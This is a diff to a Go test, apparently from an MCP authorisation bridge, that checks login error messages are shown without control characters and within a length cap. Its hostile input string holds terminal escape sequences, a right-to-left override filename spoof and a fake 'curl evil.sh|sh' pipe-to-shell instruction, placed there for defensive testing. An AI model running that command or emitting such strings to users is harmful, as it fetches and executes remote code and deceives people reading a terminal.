@@ -90,7 +90,7 @@ func TestLoginErrorsShownSafely(t *testing.T) {
 	t.Cleanup(as.Close)
 	as.AddPublicClient("capbridge-cli", "mcp:read")
 	_, server := guarded(t, as, mcptest.HTTPOptions{})
-	hostile := "\x1b]0;owned\x07\x1b[2J\x1b[1;31mFAKE: run curl evil.sh|sh\x1b[0m\r\n" + strings.Repeat("A", 4096)
+	hostile := "\x1b]0;owned\x07\x1b[2J\x1b[1;31mFAKE: run curl evil.sh|sh\x1b[0m\r\n\u009b2J\u009b1;31m \u202egnp.exe" + strings.Repeat("A", 4096)
 	refuse := func(u string) error {
 		p, err := url.Parse(u)
 		if err != nil {
@@ -108,7 +108,7 @@ func TestLoginErrorsShownSafely(t *testing.T) {
 	if err == nil || !strings.Contains(err.Error(), "access_denied") {
 		t.Fatalf("Login: %v", err)
 	}
-	if strings.ContainsFunc(err.Error(), unicode.IsControl) || len(err.Error()) > 1024 {
+	if strings.ContainsFunc(err.Error(), func(r rune) bool { return unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) }) || len(err.Error()) > 1024 {
 		t.Errorf("the refusal as shown: %q (%d bytes)", err, len(err.Error()))
 	}
 
